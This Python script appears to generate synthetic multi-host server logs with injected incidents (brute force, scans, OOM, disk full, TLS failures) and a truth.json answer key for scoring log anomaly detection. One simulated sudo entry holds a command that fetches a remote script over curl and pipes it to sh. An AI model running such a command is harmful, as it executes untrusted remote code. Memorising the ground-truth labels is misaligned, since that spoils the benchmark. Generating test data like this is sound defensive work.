    for day, hour in [(0, 16.4), (1, 10.1), (2, 14.7 + rng.random())]:
        t = T0 + day * DAY + hour * 3600
        while any(abs(t - b) < 1200 for b in h.busy):
            t += 600
        h.sys(t - 30, "sudo", None, "     ana : TTY=pts/1 ; PWD=/home/ana ; USER=root ; COMMAND=/usr/bin/systemctl restart gitea", "authpriv", "notice", unit=None)
        systemd_restart(h, t, "gitea.service", "Gitea (Git with a cup of tea)")
        gitea(t + 2.5, "I", "cmd/web.go:231:serveInstalled()", f"PING DATABASE sqlite3")
        gitea(t + 2.6, "I", "cmd/web.go:304:listen()", f"Listen: http://127.0.0.1:3000")
        gitea(t + 2.6, "I", "cmd/web.go:308:listen()", f"AppURL(ROOT_URL): https://{vhost}/")


def journal_tail(h):
    rng = h.rng
    for day in range(3):
        t = T0 + day * DAY + 6 * 3600 + 25 * 60 + rng.uniform(0, 60)
        for unit, desc in [("logrotate.service", "Rotate log files"), ("man-db.service", "Daily man-db regeneration")]:
            h.sys(t, "systemd", 1, f"Starting {unit} - {desc}...", unit=unit)
            h.sys(t + 2, "systemd", 1, f"{unit}: Deactivated successfully.", unit=unit)
            h.sys(t + 2, "systemd", 1, f"Finished {unit} - {desc}.", unit=unit)
    for t in times(rng, T0, END, 2, shaped=False):
        h.sys(t, "systemd", 1, "Starting apt-daily.service - Daily apt download activities..." if rng.random() < 0.5 else "Starting sysstat-collect.service - system activity accounting tool...", unit="apt-daily.service")


# ---------------------------------------------------------------- incidents (day 3 only)

def plan_incidents(h):
    """Reserve the slots of the incidents that change background generation (silence, cron stop)."""
    h.plan = {}
    if h.profile in ("alpine", "journal"):
        t = h.slot(1, 22)
        h.plan["silent"] = (t, t + 2400)
    t = h.slot(1, 22)
    h.plan["cron_stop"] = t


def inject(h):
    rng = h.rng
    p = h.profile
    # silence and cron stop: already shaped in the background
    if "silent" in h.plan:
        s = h.plan["silent"][0]
        # the last line before the gap is the start of the incident; the source is quiet 40 minutes
        h.truth_add("service-silent", s, {}, "heartbeat/health lines every 10-30 s stop for 40 min")
    c = h.plan["cron_stop"]
    # first missed run: the next scheduled time at/after c
    if p == "rhel":
        every, off = 5, 0
    elif p == "alpine":
        every, off = 5, 2
    else:
        every, off = 10, 3
    k = math.ceil((c - T0 - off * 60) / (every * 60))
    first_missed = T0 + off * 60 + k * every * 60
    h.truth_add("cron-missed", first_missed + 1, {}, f"a */{every} cron job stops for 3 h")

    attack_ip = lambda: pub_ip(rng)
    pw = p != "alpine"
    items = []

    def add(fn):
        items.append(fn)

    # --- attacks
    def ssh_bf():
        t = h.slot(0.5, 23.5)
        ip = attack_ip()
        brute_force(h, t, ip, ["root"] * 5 + ["admin", "ubuntu", "test"], 220, 1.1, pw)
        h.truth_add("ssh-brute-force", t, {"ip": ip})
    add(ssh_bf)

    def enum():
        t = h.slot(0.5, 23.5)
        ip = attack_ip()
        enumeration(h, t, ip, 80, pw)
        h.truth_add("invalid-user-enumeration", t, {"ip": ip})
    if p != "rhel":
        add(enum)

    def laf():
        t = h.slot(0.5, 23.5)
        ip = attack_ip()
        user = {"rhel": "jdoe", "journal": "kwame"}[p]
        login_after_failures(h, t, ip, user, 45)
        h.truth_add("login-after-failures", t, {"ip": ip, "user": user})
    if pw:
        add(laf)

    def dist():
        t = h.slot(0.5, 21)
        users = h.users + ["backup", "support"]
        distributed(h, t, [u for u in users], dur=3000, n=150, password_auth=pw)
        h.truth_add("distributed-brute-force", t, {"user": {"any": users}}, "60 addresses, ~2-3 tries each, over 50 min, real account names")
    if p == "rhel" or p == "journal":
        add(dist)

    def webscan():
        t = h.slot(0.5, 23.5)
        ip = attack_ip()
        h.webobj.vuln_scan(t, ip, 160)
        h.truth_add("web-vuln-scan", t, {"ip": ip})
    add(webscan)

    def b5xx():
        t = h.slot(6, 22)
        h.webobj.burst_5xx(t, 240, 1.5 * rhythm(t) + 0.5, 502 if p != "rhel" else 503)
        h.truth_add("http-5xx-burst", t, {}, "backend down 4 min")
    add(b5xx)

    def basic():
        t = h.slot(0.5, 23.5)
        ip = attack_ip()
        h.webobj.basic_auth_attack(t, ip, "/admin/" if p == "alpine" else "/api/v1/user", ["admin", "root", "user", "test", "guest"], 100)
        h.truth_add("basic-auth-failures", t, {"ip": ip})
    if p != "rhel":
        add(basic)

    def fw():
        t = h.slot(0.5, 23.5)
        ip = attack_ip()
        ports = list(range(1, 1025))
        rng.shuffle(ports)
        for i, port in enumerate(ports[:900]):
            nft_line(h, t + i * 0.12, ip, port, "nft-drop: " if p == "alpine" else "[nftables] drop: ")
        h.truth_add("firewall-drop-surge", t, {"ip": ip}, "one address, 900 ports in ~2 min")
    if p != "rhel":
        add(fw)

    def mailauth():
        t = h.slot(0.5, 23.5)
        ip = attack_ip()
        tt = t
        for i in range(120):
            sp = h.newpid()
            h.sys(tt, "postfix/smtpd", sp, f"connect from unknown[{ip}]", "mail")
            h.sys(tt + 0.5, "postfix/smtpd", sp, f"warning: unknown[{ip}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6", "mail", "warning")
            h.sys(tt + 0.6, "postfix/smtpd", sp, f"disconnect from unknown[{ip}] ehlo=1 auth=0/1 quit=1 commands=2/3", "mail")
            tt += rng.uniform(1, 4)
        h.truth_add("mail-auth-failures", t, {"ip": ip}, "postfix SASL")
    def dovecotauth():
        t = h.slot(0.5, 23.5)
        ip = attack_ip()
        tt = t
        dom = "example.org"
        for i in range(80):
            u = rng.choice(["info", "admin", "jdoe", "sales", "office", "contact"])
            h.sys(tt, "dovecot", None, f"auth-worker({h.newpid()}): pam({u}@{dom},{ip},<{hashlib.md5(str(tt).encode()).hexdigest()[:16]}>): pam_authenticate() failed: Authentication failure (Password mismatch?)", "mail")
            h.sys(tt + 2, "dovecot", None, f"imap-login: Disconnected: Connection closed (auth failed, 1 attempts in 2 secs): user=<{u}@{dom}>, method=PLAIN, rip={ip}, lip={h.addr}, TLS, session=<{hashlib.md5(str(tt).encode()).hexdigest()[:16]}>", "mail")
            tt += rng.uniform(1.5, 5)
        h.truth_add("mail-auth-failures", t, {"ip": ip}, "dovecot imap")
    def ftpauth():
        t = h.slot(0.5, 23.5)
        ip = attack_ip()
        tt = t
        for i in range(70):
            pp = h.newpid()
            h.ftp(tt, pp, "", "CONNECT", ip)
            h.ftp(tt + 1.5, pp + 1, rng.choice(["admin", "ftp", "backup", "www", "upload", "test"]), "FAIL LOGIN", ip)
            tt += rng.uniform(1, 4)
        h.truth_add("ftp-auth-failures", t, {"ip": ip})
    if p == "rhel":
        add(mailauth); add(dovecotauth); add(ftpauth)

    # --- system
    def oom():
        t = h.slot(0.5, 23.5)
        victim, unit = {"alpine": ("redis-server", "redis"), "rhel": ("clamd", "clamd@scan.service"), "journal": ("mongod", "mongod.service")}[p]
        vpid = rng.randrange(800, 9000)
        kernel_oom(h, t, victim, vpid, unit, rng.randrange(600000, 900000))
        ent = {"process": victim}
        if p != "alpine":
            ent["unit"] = unit
        h.truth_add("oom-kill", t, ent)
    add(oom)

    def segv():
        t = h.slot(0.5, 23.5)
        proc = {"alpine": "api", "rhel": "php-fpm", "journal": "gitea"}[p]
        pid = rng.randrange(1000, 30000)
        h.sys(t, "kernel", None, f"{proc}[{pid}]: segfault at 8 ip 00007f{rng.randrange(16**9):09x} sp 00007ffd{rng.randrange(16**8):08x} error 4 in libc.so.6[7f3a1c228000+155000] likely on CPU 1 (core 1, socket 0)", "kern", "info")
        h.sys(t, "kernel", None, "Code: 48 8b 45 f8 64 48 2b 04 25 28 00 00 00 75 05 c9 c3 0f 1f 00 e8 <8b> 47 08 85 c0", "kern", "info")
        if p == "rhel":
            h.fpm(t + 0.01, "WARNING", f"[pool www] child {pid} exited on signal 11 (SIGSEGV - core dumped) after {rng.uniform(10, 900):.6f} seconds from start")
            h.sys(t + 0.5, "systemd-coredump", h.newpid(), f"Process {pid} (php-fpm) of user 48 dumped core.", "daemon", "crit")
        h.truth_add("segfault", t, {"process": proc})
    add(segv)

    def loop():
        t = h.slot(0.5, 23.5)
        if p == "rhel":
            restart_loop(h, t, "dovecot.service", "Dovecot IMAP/POP3 email server", "dovecot", "Fatal: Error in configuration file /etc/dovecot/conf.d/10-ssl.conf line 14: ssl_cert: Can't open file /etc/pki/dovecot/certs/dovecot.pem: Permission denied", "89/n/a", n=6)
            unit = "dovecot.service"
        else:
            restart_loop(h, t, "ci-worker.service", "CI job worker", "ci-worker", "pymongo.errors.ConfigurationError: unknown option authSource2", "1/FAILURE", n=9)
            unit = "ci-worker.service"
        h.truth_add("unit-restart-loop", t, {"unit": unit})
    if p != "alpine":
        add(loop)

    def diskfull():
        t = h.slot(0.5, 23.5)
        if p == "alpine":
            for i in range(8):
                tt = t + i * 60
                h.redis(tt, "M", "* 100 changes in 300 seconds. Saving...", 2187)
                h.redis(tt + 0.01, "C", "# Failed opening the temp RDB file temp-%d.rdb (in server root dir /var/lib/redis) for saving: No space left on device" % (4000 + i), 4000 + i)
                h.redis(tt + 0.02, "M", "# Background saving error", 2187)
                h.api(tt + 3, "ERROR", "write upload", err="write /var/lib/api/uploads/tmp-%d: no space left on device" % rng.randrange(10 ** 6), path="/v1/items")
        elif p == "rhel":
            for i in range(6):
                tt = t + i * 40
                h.sys(tt, "postfix/cleanup", h.newpid(), f"warning: {hashlib.md5(str(tt).encode()).hexdigest()[:10].upper()}: write queue file: No space left on device", "mail", "warning")
                h.sys(tt + 0.1, "postfix/smtpd", h.newpid(), f"NOQUEUE: reject: MAIL from unknown[{pub_ip(rng)}]: 452 4.3.1 Insufficient system storage; proto=ESMTP helo=<mx.example.com>", "mail")
            h.nc(t + 5, 3, "PHP", "file_put_contents(): Write of 8192 bytes failed with errno=28 No space left on device at /var/www/nextcloud/lib/private/Files/Storage/Local.php#485")
        else:
            for i in range(5):
                tt = t + i * 30
                h.mongo(tt, "E", "STORAGE", 22435, "Checkpointer", "WiredTiger error message", {"error": 28, "message": {"ts_sec": int(tt), "ts_usec": 0, "thread": "1342:0x7f3a", "session_name": "WT_SESSION.checkpoint", "category": "WT_VERB_DEFAULT", "category_id": 9, "verbose_level": "ERROR", "verbose_level_id": -3, "msg": "__posix_file_write:616:/var/lib/mongodb/collection-14-1733.wt: handle-write: pwrite: failed to write 4096 bytes at offset 1277952", "error_str": "No space left on device", "error_code": 28}})
            h.gitea(t + 10, "E", "...ules/queue/workerqueue.go:112:func1()", "Failed to write archive: write /var/lib/gitea/data/tmp/archive-39281: no space left on device")
        h.truth_add("disk-full", t, {})
    add(diskfull)

    def ioerr():
        t = h.slot(0.5, 23.5)
        dev = "vdb" if p == "alpine" else "sdb"
        kernel_io(h, t, dev, 14)
        h.truth_add("io-errors", t, {"device": {"substr": dev}})
    if p != "rhel":
        add(ioerr)

    def hung():
        t = h.slot(0.5, 23.5)
        task = {"alpine": "redis-server", "rhel": "clamd", "journal": "mongod"}[p] if p != "journal" else "jbd2/sda1-8"
        kernel_hung(h, t, task, rng.randrange(200, 9000))
        h.truth_add("hung-task", t, {"process": task})
    add(hung)

    def tls():
        t = h.slot(0.5, 23.5)
        if p == "alpine":
            dom = "cdn." + "shop.example.org"
            for i in range(4):
                h.caddy(t + i * 61, "error", "tls.obtain", "could not get certificate from issuer", identifier=dom, issuer="acme-v02.api.letsencrypt.org-directory", error="HTTP 429 urn:ietf:params:acme:error:rateLimited - too many certificates (5) already issued for this exact set of domains in the last 168h0m0s, retry after 2026-11-23 11:11:24 UTC")
            h.caddy(t + 250, "error", "tls.obtain", "will retry", error="[" + dom + "] Obtain: [" + dom + "] finalizing order: HTTP 429", attempt=5, retrying_in=600, elapsed=250.3, max_duration=2592000)
        elif p == "rhel":
            h.sys(t, "certbot", h.newpid(), "Failed to renew certificate mail.example.org with error: Some challenges have failed.", "daemon", "err", unit="certbot-renew.service")
            h.sys(t + 0.1, "certbot", h.pid, "All renewals failed. The following certificates could not be renewed:", "daemon", "err", unit="certbot-renew.service")
            h.sys(t + 0.1, "certbot", h.pid, "  /etc/letsencrypt/live/mail.example.org/fullchain.pem (failure)", "daemon", "err", unit="certbot-renew.service")
            for i in range(25):
                ip = pub_ip(rng)
                h.sys(t + 60 + i * 7, "postfix/smtpd", h.newpid(), f"SSL_accept error from unknown[{ip}]: -1", "mail")
                h.sys(t + 60 + i * 7, "postfix/smtpd", h.pid, f"warning: TLS library problem: error:0A000415:SSL routines::sslv3 alert certificate expired:ssl/record/rec_layer_s3.c:1605:SSL alert number 45:", "mail", "warning")
        else:
            for i in range(4):
                h.sys(t + i * 45, "traefik", 644, f"{iso_s(t + i * 45)} ERR Unable to obtain ACME certificate for domains error=\"unable to generate a certificate for the domains [ci.{h.name}.example.com]: error: one or more domains had a problem:\\n[ci.{h.name}.example.com] acme: error: 403 :: urn:ietf:params:acme:error:unauthorized :: Invalid response from http://ci.{h.name}.example.com/.well-known/acme-challenge/x: 404\\n\" ACME CA=https://acme-v02.api.letsencrypt.org/directory acmeCA=https://acme-v02.api.letsencrypt.org/directory domains=[\"ci.{h.name}.example.com\"] providerName=le.acme routerName=ci@file rule=Host(`ci.{h.name}.example.com`)", "daemon", "err", unit="traefik.service")
        h.truth_add("tls-failure", t, {})
    add(tls)

    def newuser():
        t = h.slot(0.5, 23.5)
        u = rng.choice(["sysupd", "nagios2", "backupsvc", "mysqld"])
        useradd(h, t, u, rng.randrange(1003, 1100))
        h.truth_add("new-user", t, {"user": u})
    add(newuser)

    def sudo_unexp():
        t = h.slot(0.5, 23.5)
        u = {"alpine": "caddy", "rhel": "apache", "journal": "git"}[p]
        sudo_root(h, t, u, "/bin/sh -c curl -fsSL http://" + pub_ip(rng) + "/x.sh | sh")
        h.truth_add("sudo-unexpected", t, {"user": u})
    add(sudo_unexp)

    def dberr():
        t = h.slot(0.5, 23.5)
        if p == "rhel":
            for i in range(30):
                h.nc(t + i * 4, 3, "no app in context", "An exception occurred in the driver: SQLSTATE[HY000] [2002] Connection refused", exc={"Exception": "Doctrine\\DBAL\\Exception\\ConnectionException", "Message": "An exception occurred in the driver: SQLSTATE[HY000] [2002] Connection refused", "Code": 2002})
        elif p == "journal":
            for i in range(25):
                h.mongo(t + i * 3, "E", "QUERY", 4560, f"conn{rng.randrange(100, 999)}", "Plan executor error during find command", {"error": {"code": 292, "codeName": "QueryExceededMemoryLimitNoDiskUseAllowed", "errmsg": "Sort exceeded memory limit of 104857600 bytes, but did not opt in to external sorting."}, "ns": "ci.jobs"})
        else:
            for i in range(20):
                h.redis(t + i * 5, "M", "# Error accepting a client connection: accept: Too many open files", 2187)
        h.truth_add("db-errors", t, {})
    add(dberr)

    def newerr():
        t = h.slot(0.5, 23.5)
        if p == "alpine":
            h.api(t, "ERROR", "panic recovered", err="runtime error: index out of range [3] with length 3", path="/v1/cart", stack="goroutine 8123 [running]")
            h.api(t + 40, "ERROR", "panic recovered", err="runtime error: index out of range [3] with length 3", path="/v1/cart", stack="goroutine 8177 [running]")
        elif p == "rhel":
            h.nc(t, 3, "dav", "Sabre\\DAV\\Exception\\ServiceUnavailable: Encryption not ready: Private key is not set", exc={"Exception": "Sabre\\DAV\\Exception\\ServiceUnavailable"}, url="/remote.php/dav/files/lena/Shared/")
        else:
            h.worker(t, "unhandled exception in job runner: bson.errors.InvalidDocument: key '$where' must not start with '$'", "ERROR", "err")
        h.truth_add("new-error-template", t, {})
    add(newerr)

    def spike():
        t = h.slot(6, 22)
        n = 0
        if p == "alpine":
            for tt in [t + i * 2.2 for i in range(300)]:
                h.api(tt, "WARN", "slow upstream", upstream="payments", dur=f"{rng.uniform(1.0, 3.0):.2f}s")
        elif p == "rhel":
            for tt in [t + i * 4 for i in range(120)]:
                h.fpm(tt, "WARNING", f"[pool www] seems busy (you may need to increase pm.start_servers, or pm.min/max_spare_servers), spawning 32 children, there are 0 idle, and {rng.randrange(40, 50)} total children")
        else:
            for tt in [t + i * 2 for i in range(300)]:
                h.gitea(tt, "W", "...eb/routing/logger.go:102:func1()", f"router: slow      GET /api/v1/repos/ana/infra/commits for {pub_ip(rng)}:0, elapsed {rng.uniform(3000, 9000):.1f}ms @ repo/commits.go:46(repo.GetAllCommits)")
        h.truth_add("template-spike", t, {}, "a normal warning line at >=10x its rate for 10 min")
    add(spike)

    for fn in items:
        fn()


# ---------------------------------------------------------------- writing

def gen_files(h):
    """key -> (relative path, rotation style, rotation hour)"""
    p = h.profile
    if p == "alpine":
        return {"messages": ("var/log/messages", "num_gz", 2.0), "caddy_access": ("var/log/caddy/access.log", "lumberjack", 0.0),
                "caddy_log": ("var/log/caddy/caddy.log", "num", 2.0), "redis": ("var/log/redis/redis.log", "num_gz", 2.0),
                "api": ("var/log/api/api.log", "num_gz", 2.0), "fail2ban": ("var/log/fail2ban.log", "num", 2.0)}
    if p == "rhel":
        return {"secure": ("var/log/secure", "dated", 0.0), "messages": ("var/log/messages", "dated", 0.0), "maillog": ("var/log/maillog", "dated", 0.0),
                "cron": ("var/log/cron", "dated", 0.0), "haproxy": ("var/log/haproxy.log", "dated_gz", 0.0),
                "nextcloud": ("var/log/nextcloud/nextcloud.log", "none", 0.0), "phpfpm": ("var/log/php-fpm/www-error.log", "dated", 0.0),
                "vsftpd": ("var/log/vsftpd.log", "dated", 0.0)}
    return {"traefik_access": ("var/log/traefik/access.log", "num_gz", 6.42), "mongod": ("var/log/mongodb/mongod.log", "mongo", 0.0)}


def write_host(h, out):
    root = os.path.join(out, h.name)
    specs = gen_files(h)
    total = 0
    for key, lines in h.files.items():
        rel, style, rh = specs[key]
        lines.sort(key=lambda x: x[0])
        cuts = [T0 + d * DAY + rh * 3600 for d in range(3)] if style != "none" else []
        cuts = [c for c in cuts if T0 < c < END]
        gens = []
        lo = T0
        for c in cuts + [END + 1]:
            gens.append((lo, c))
            lo = c
        n = len(gens)
        for gi, (a, b) in enumerate(gens):
            chunk = [l for (t, l) in lines if a <= t < b]
            if not chunk:
                continue
            age = n - 1 - gi  # 0 = current
            path = os.path.join(root, rel)
            gz = False
            if age > 0:
                d = utc(b)
                if style == "num_gz":
                    path += f".{age}" + (".gz" if age > 1 else "")
                    gz = age > 1
                elif style == "num":
                    path += f".{age}"
                elif style in ("dated", "dated_gz"):
                    path += d.strftime("-%Y%m%d")
                    gz = style == "dated_gz"
                    if gz:
                        path += ".gz"
                elif style == "lumberjack":
                    base, ext = os.path.splitext(path)
                    path = f"{base}-{d:%Y-%m-%dT%H-%M-%S}.000{ext}.gz"
                    gz = True
                elif style == "mongo":
                    path += d.strftime(".%Y-%m-%dT%H-%M-%S")
            os.makedirs(os.path.dirname(path), exist_ok=True)
            data = ("\n".join(chunk) + "\n").encode()
            if gz:
                with gzip.GzipFile(path, "wb", mtime=int(b)) as f:
                    f.write(data)
            else:
                with open(path, "wb") as f:
                    f.write(data)
            mt = min(b, END)
            os.utime(path, (mt, mt))
            total += len(chunk)
    if h.journal:
        h.journal.sort(key=lambda x: x[0])
        path = os.path.join(root, "journal.json" if h.export_fmt == "json" else "journal.export")
        os.makedirs(root, exist_ok=True)
        seq = 0x1a2b3c
        with open(path, "w") as f:
            for t, e in h.journal:
                seq += 1
                us = int(round(t * 1e6))
                mono = int((t - h.uptime0) * 1e6)
                full = {"__CURSOR": f"s={h.machine[:32]};i={seq:x};b={h.boot};m={mono:x};t={us:x};x={seq * 7919:x}",
                        "__REALTIME_TIMESTAMP": str(us), "__MONOTONIC_TIMESTAMP": str(mono)}
                full.update(e)
                if "SYSLOG_IDENTIFIER" in e and e.get("_TRANSPORT") == "syslog":
                    full["SYSLOG_TIMESTAMP"] = rfc3164(t) + " "
                if h.export_fmt == "json":
                    f.write(json.dumps(full, separators=(",", ":")) + "\n")
                else:
                    for k, v in full.items():
                        f.write(f"{k}={v}\n")
                    f.write("\n")
        os.utime(path, (END, END))
        total += len(h.journal)
    return total


def metrics_file(h, seed):
    """Optional host metrics, one sample a minute, in the *.metrics.jsonl form ARCHITECTURE.md describes for analyze
    (names of Collect/HostMetrics/HostMetricNames). Day 3 adds a steady memory leak and a disk filling up."""
    rng = random.Random(f"{seed}/{h.name}/metrics")
    def free_slot(lo, hi):
        for _ in range(500):
            t = int(D3 + rng.uniform(lo * 3600, hi * 3600))
            if all(abs(t - b) > 1200 for b in h.busy):
                h.busy.append(t)
                return t
        raise RuntimeError("no free slot")
    leak = free_slot(0.5, 20)
    fill = free_slot(0.5, 18)
    total = 4 * 1024 ** 3 if h.profile != "alpine" else 2 * 1024 ** 3
    size = 80 * 1000 ** 3
    proc = {"alpine": ("api", "/usr/local/bin/api"), "rhel": ("php-fpm", "php-fpm: pool www"), "journal": ("gitea", "/usr/local/bin/gitea web")}[h.profile]
    used0 = 0.62
    lines = []
    t = T0
    leak_cross = None
    fill_cross = None
    while t < END:
        r = rhythm(t)
        busy = 6 + 30 * r + rng.uniform(-3, 3)
        mem = 0.50 + 0.08 * r + rng.uniform(-0.01, 0.01)
        if leak <= t:
            mem += min(0.45, (t - leak) / 3600 * 0.12)   # 12 points an hour until the OOM-ish ceiling
            if leak_cross is None and mem > 0.75:
                leak_cross = t
        disk = used0 + (t - T0) / DAY * 0.002
        if fill <= t < fill + 6 * 3600:
            disk += (t - fill) / 3600 * 0.05            # a runaway log: 5 points an hour for 6 h, then rotated away
        elif t >= fill + 6 * 3600:
            disk += 0.0
        disk = min(disk, 0.995)
        rss = int(total * (0.12 + (max(0, mem - 0.58) if leak <= t else 0)))
        m = [{"name": "cpu_percent", "labels": {"state": "user"}, "value": round(busy * 0.7, 2)},
             {"name": "cpu_percent", "labels": {"state": "system"}, "value": round(busy * 0.25, 2)},
             {"name": "cpu_percent", "labels": {"state": "iowait"}, "value": round(busy * 0.05, 2)},
             {"name": "cpu_percent", "labels": {"state": "idle"}, "value": round(100 - busy, 2)},
             {"name": "cpu_count", "value": 2}, {"name": "load1", "value": round(busy / 50, 2)},
             {"name": "memory_total_bytes", "value": total},
             {"name": "memory_available_bytes", "value": int(total * (1 - mem))},
             {"name": "memory_used_bytes", "value": int(total * mem)},
             {"name": "memory_used_percent", "value": round(mem * 100, 2)},
             {"name": "swap_total_bytes", "value": 0}, {"name": "swap_used_bytes", "value": 0},
             {"name": "filesystem_size_bytes", "labels": {"device": "/dev/vda1", "fstype": "ext4", "mount": "/"}, "value": size},
             {"name": "filesystem_available_bytes", "labels": {"device": "/dev/vda1", "fstype": "ext4", "mount": "/"}, "value": int(size * (1 - disk))},
             {"name": "filesystem_free_bytes", "labels": {"device": "/dev/vda1", "fstype": "ext4", "mount": "/"}, "value": int(size * (1 - disk) + size * 0.05)},
             {"name": "filesystem_used_percent", "labels": {"device": "/dev/vda1", "fstype": "ext4", "mount": "/"}, "value": round(disk * 100, 2)}]
        if fill_cross is None and fill <= t and disk > 0.70:
            fill_cross = t
        top_mem = [{"pid": 811, "command": proc[0], "cmdline": proc[1], "cpu_percent": round(busy * 0.4, 1), "rss_bytes": rss}]
        lines.append(json.dumps({"ts": iso_s(t), "host": h.name, "metrics": m, "top_cpu": top_mem, "top_memory": top_mem}, separators=(",", ":")))
        t += 60
    path = os.path.join(h.outroot, h.name + ".metrics.jsonl")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write("\n".join(lines) + "\n")
    h.truth.append({"host": h.name, "kind": "memory-growth", "start": iso_ms(leak), "start_unix": leak, "metric": True,
                    "entities": {"where": {"text_any": ["memory"]}}, "note": "memory_used_percent +12 points/h from ~55-58 %; crosses 75 % at " + iso_s(leak_cross)})
    h.truth.append({"host": h.name, "kind": "disk-filling", "start": iso_ms(fill), "start_unix": fill, "metric": True,
                    "entities": {"where": {"text_any": ["disk /", "filesystem_", "/dev/vda1"]}}, "note": "filesystem_used_percent of / +5 points/h for 6 h from ~62.5 %: full in ~7.5 h"})


PROFILES = {"alpine": profile_alpine, "rhel": profile_rhel, "journal": profile_journal}
NAMES = {"alpine": "edge", "rhel": "mx", "journal": "forge"}


def fail2ban_from_messages(h):
    """fail2ban's own log for the sshd jail, derived from what sshd wrote (maxretry 5, findtime 10m, bantime 10m)."""
    import re
    rx = re.compile(r"(?:Invalid user \S+ from|Connection closed by (?:invalid|authenticating) user \S+) (\d+\.\d+\.\d+\.\d+)")
    hist = {}
    banned = {}
    for t, line in sorted(h.files.get("messages", []), key=lambda x: x[0]):
        m = rx.search(line)
        if not m or "sshd" not in line:
            continue
        ip = m.group(1)
        d = utc(t)
        stamp = f"{d:%Y-%m-%d %H:%M:%S},{int((t % 1) * 1000):03d}"
        h.put("fail2ban", t, f"{stamp} fail2ban.filter         [2301]: INFO    [sshd] Found {ip} - {d:%Y-%m-%d %H:%M:%S}")
        q = [x for x in hist.get(ip, []) if t - x < 600] + [t]
        hist[ip] = q
        if len(q) >= 5 and banned.get(ip, 0) < t:
            h.put("fail2ban", t + 0.3, f"{stamp} fail2ban.actions        [2301]: NOTICE  [sshd] Ban {ip}")
            banned[ip] = t + 600
            d2 = utc(t + 600)
            h.put("fail2ban", t + 600, f"{d2:%Y-%m-%d %H:%M:%S},{int((t % 1) * 1000):03d} fail2ban.actions        [2301]: NOTICE  [sshd] Unban {ip}")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--hosts", type=int, default=3)
    ap.add_argument("--scale", type=float, default=1.0)
    ap.add_argument("--metrics", action="store_true", help="also write HOST/HOST.metrics.jsonl with a memory leak and a disk filling in day 3 (scored separately)")
    a = ap.parse_args()
    order = ["alpine", "rhel", "journal"]
    truth = []
    meta = {"seed": a.seed, "learn_until": iso_s(D3), "day3_start": iso_s(D3), "end": iso_s(END), "hosts": {}}
    for i in range(a.hosts):
        prof = order[(i + a.seed) % 3]
        name = f"{NAMES[prof]}-{i + 1:02d}"
        h = Host(name, prof, a.seed, i, a.scale, export_fmt="json" if (a.seed + i) % 2 == 0 else "export")
        plan_incidents(h)
        PROFILES[prof](h)
        inject(h)
        h.deploys()
        if prof == "alpine":
            fail2ban_from_messages(h)
        h.outroot = os.path.join(a.out, name)
        if a.metrics:
            metrics_file(h, a.seed)
        n = write_host(h, a.out)
        per_day = [0, 0, 0]
        for lines in h.files.values():
            for t, _ in lines:
                per_day[min(2, int((t - T0) // DAY))] += 1
        for t, _ in h.journal:
            per_day[min(2, int((t - T0) // DAY))] += 1
        meta["hosts"][name] = {"profile": prof, "lines": n, "lines_per_day": per_day, "incidents": len(h.truth)}
        truth.extend(h.truth)
        print(f"{name:10s} {prof:8s} lines/day {per_day} incidents {len(h.truth)}")
    truth.sort(key=lambda x: (x["host"], x["start_unix"]))
    with open(os.path.join(a.out, "truth.json"), "w") as f:
        json.dump({"meta": meta, "incidents": truth}, f, indent=1)


if __name__ == "__main__":
    main()
